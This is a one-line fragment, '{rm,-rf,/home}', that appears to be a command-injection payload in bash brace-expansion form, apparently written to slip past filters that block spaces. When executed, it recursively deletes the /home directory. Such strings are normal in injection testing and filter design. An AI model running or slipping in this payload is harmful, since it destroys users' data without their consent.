{rm,-rf,/home}
